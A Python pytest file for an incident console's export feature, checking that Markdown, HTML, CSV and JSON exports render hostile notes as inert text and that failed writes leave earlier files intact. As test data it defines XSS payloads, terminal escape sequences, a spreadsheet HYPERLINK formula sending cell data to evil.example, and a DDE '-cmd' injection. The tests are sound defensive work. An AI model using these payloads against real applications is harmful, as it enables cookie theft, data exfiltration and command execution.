"""Exports are inert: hostile notes, titles, function ids, actors and backend strings come out
as text — no HTML, no script links, no spreadsheet formulas, no terminal escapes — and an
export that cannot be written leaves the earlier file as it was."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from console.cli import main
from console.engine.incidents.export import FORMATS, export_bytes, export_incident
from console.engine.incidents.lifecycle import add_note, open_incident
from console.engine.store.atomic import write_atomic
from console.engine.store.base import StoreLike
from console.engine.store.events import EventLog, NewEvent
from console.engine.store.sqlite import Store
from console.errors import CallboardError, UserError

SCRIPT = "<script>alert(document.cookie)</script>"
IMG = '<img src=x onerror="alert(1)">'
JS_LINK = "[click me](javascript:alert(1))"
AUTOLINK = "<javascript:alert(2)>"
DATA_LINK = "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
PIXEL = "![](https://tracker.example/pixel.gif)"
GOOD_LINK = "[dashboard](https://grafana.example/d/pay)"
ESCAPES = "\x1b]52;c;cHduZWQ=\x1b\\ \x1b]0;owned\x07 \x1b[2J \x9b31m \x07"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"pay")'
HOSTILE = [SCRIPT, IMG, JS_LINK, AUTOLINK, DATA_LINK, PIXEL, GOOD_LINK, ESCAPES, FORMULA,
           "+1+1", "-2+3", "@SUM(A1:A9)", "\tindent", "\rcarriage"]  # fmt: skip
#: Raw control bytes a terminal or a browser would act on (tab, newline kept).
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    """An SQLite file holding :func:`hostile` (for the file-fault tests)."""
    db = tmp_path / "cb.db"
    store = Store(db)
    hostile(store)
    store.close()
    return db


@pytest.fixture
def hostile_store(stores: Callable[[], StoreLike]) -> StoreLike:
    """:func:`hostile` on each engine."""
    store = stores()
    hostile(store)
    return store


def hostile(store: StoreLike) -> None:
    """An incident whose title, function id, actor, notes and backend strings are hostile."""
    log = EventLog(store, actor="@evil" + ESCAPES)
    fid = FORMULA
    inc = open_incident(store, f"Pay {SCRIPT} {JS_LINK}", [fid], log=log)
    for text in HOSTILE:
        add_note(store, inc.id, f"note {text}", log=log)
        add_note(store, inc.id, text, log=log)  # the cell starts with it
    common = {"incident_id": inc.id, "function_id": fid}
    log.append(NewEvent("alert.firing", {"name": IMG, "severity": "page", "since": "x",
                                "summary": f"{SCRIPT} {AUTOLINK} {ESCAPES}"}, **common))  # fmt: skip
    log.append(NewEvent("finding.appeared", {"mode": "F1", "name": "Timeout", "severity": "page",
                                    "evidence": f"{IMG}{DATA_LINK}",
                                    "trace_id": "`<script>x</script>`"}, **common))  # fmt: skip
    log.append(NewEvent("deploy.seen", {"version": FORMULA, "author": "-cmd|' /C calc'!A0",
                               "description": ESCAPES + SCRIPT}, **common))  # fmt: skip
    log.append(NewEvent("step.intent", {"step": "s1", "kind": "command", "target": fid,
                               "what": f"{JS_LINK} {IMG}"}, run_id="r1", **common))  # fmt: skip
    log.append(NewEvent("step.result", {"step": "s1", "kind": "command", "status": "failed",
                               "output": ESCAPES + SCRIPT}, run_id="r1", **common))  # fmt: skip


class Tags(HTMLParser):
    """Every element and attribute a browser would build from the page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def active_content(html: str) -> list[str]:
    """What in ``html`` could run or fetch: scripts, images, event handlers, links that are
    not http(s)."""
    parser = Tags()
    parser.feed(html)
    bad = []
    for tag, attrs in parser.tags:
        active = ("script", "img", "iframe", "object", "embed", "link", "base")
        if tag in active or (tag == "meta" and any(k == "http-equiv" for k, _ in attrs)):
            bad.append(tag)
        for key, value in attrs:
            if key.startswith("on"):
                bad.append(f"{tag} {key}")
            if key in ("href", "src", "action", "formaction") and not re.match(
                r"https?://|#", value or ""
            ):
                bad.append(f"{tag} {key}={value}")
    return bad


def test_markdown_renders_hostile_text_as_text(hostile_store: StoreLike) -> None:
    md = export_incident(hostile_store, "INC-0001", "md")
    html = MarkdownIt("commonmark").enable("table").render(md)
    assert active_content(html) == []
    assert "<script" not in md.lower() and "<img" not in md.lower()
    assert not re.search(r"(?<!\\)\]\((?!https?://)", md)  # no link syntax but http(s)
    # Text stays readable: the words are there, an http(s) link stays a link.
    assert "alert(document.cookie)" in html
    assert '<a href="https://grafana.example/d/pay">dashboard</a>' in html
    assert "tracker.example/pixel.gif" in md and "<img" not in html
    assert not CONTROL.search(md)


def test_html_escapes_everything_and_has_no_control_bytes(hostile_store: StoreLike) -> None:
    page = export_incident(hostile_store, "INC-0001", "html")
    assert active_content(page) == []
    assert not CONTROL.search(page)
    assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in page


def test_csv_cells_never_start_a_formula(hostile_store: StoreLike) -> None:
    text = export_incident(hostile_store, "INC-0001", "csv")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for c in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert "'" + FORMULA in cells  # prefixed, not dropped
    assert any(c.startswith("'@evil") for c in cells)  # the actor
    assert not CONTROL.search(text)


def test_json_keeps_the_data_but_no_raw_control_bytes(hostile_store: StoreLike) -> None:
    data = export_bytes(hostile_store, "INC-0001", "json")
    text = data.decode("utf-8")
    assert not CONTROL.search(text)
    doc = json.loads(text)
    notes = [e["data"]["text"] for e in doc["events"] if e["kind"] == "note"]
    assert SCRIPT in notes and FORMULA in notes  # complete: data as recorded, escaped


# -- atomic writes --------------------------------------------------------------------------


def cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as exc:
        main(list(args))
    out, err = capsys.readouterr()
    return int(exc.value.code or 0), out, err


def test_a_failed_export_leaves_the_earlier_file_intact(
    hostile_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    target = out / "pm.json"
    rc, _, err = cli(capsys, "--db", str(hostile_db), "export", "INC-0001", "--format", "json",
                     "-o", str(target))  # fmt: skip
    assert rc == 0, err
    good = target.read_bytes()
    store = Store(hostile_db)
    for n in range(300):  # the next export is well over the file size limit below
        add_note(store, "INC-0001", f"observation {n}: " + "x" * 400)
    store.close()
    limit = 64 * 1024
    assert len(good) < limit and hostile_db.stat().st_size > 0
    # A process that may write at most 64 KiB per file: the disk is "full" for this export
    # (Python ignores SIGXFSZ, so the write fails with EFBIG as on a full disk: ENOSPC).
    code = (
        "import resource, sys\n"
        f"resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, {limit}))\n"
        "from console.cli import main\n"
        "main(sys.argv[1:])\n"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("CALLBOARD_")}
    proc = subprocess.run(
        [sys.executable, "-c", code, "--db", str(hostile_db), "export", "INC-0001",
         "--format", "json", "-o", str(target)],
        capture_output=True, text=True, env=env, timeout=120, check=False,
    )  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: cannot write {target}")
    assert "earlier file is unchanged" in lines[0] and "Traceback" not in proc.stderr
    assert target.read_bytes() == good  # not a 0-byte or half-written file
    assert sorted(p.name for p in out.iterdir()) == ["pm.json"]  # no temporary file left


def test_an_export_into_a_missing_folder_or_onto_a_folder_is_bad_input(
    hostile_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    where = tmp_path / "nope" / "pm.md"
    rc, _, err = cli(capsys, "--db", str(hostile_db), "export", "INC-0001", "-o", str(where))
    assert rc == 2 and err.startswith(f"error: cannot write {where}") and err.count("\n") == 1
    rc, _, err = cli(capsys, "--db", str(hostile_db), "export", "INC-0001", "-o", str(tmp_path))
    assert rc == 2 and "is a directory" in err


def test_write_atomic_replaces_whole_and_keeps_the_mode(tmp_path: Path) -> None:
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    target = tmp_path / "pm.md"
    target.write_bytes(b"old")
    target.chmod(0o640)
    write_atomic(target, b"new text")
    assert target.read_bytes() == b"new text" and target.stat().st_mode & 0o777 == 0o640
    link = tmp_path / "latest.md"
    link.symlink_to(target)
    write_atomic(link, b"via link")  # a symlink stays a symlink: its file is replaced
    assert link.is_symlink() and target.read_bytes() == b"via link"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["latest.md", "pm.md"]


def test_write_atomic_errors_are_typed() -> None:
    with pytest.raises(UserError, match="cannot write"):
        write_atomic(Path("/proc/nope/pm.md"), b"x")
    # Not a regular file: written in place (never renamed over), here failing as a full disk.
    with pytest.raises(CallboardError, match="cannot write /dev/full: No space left") as exc:
        write_atomic(Path("/dev/full"), b"x" * 10)
    assert not isinstance(exc.value, UserError)  # exit 1: the machine, not the input
    write_atomic(Path("/dev/null"), b"x")  # `-o /dev/null` never replaces the device
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_every_format_is_covered() -> None:
    assert set(FORMATS) == {"md", "json", "csv", "html"}
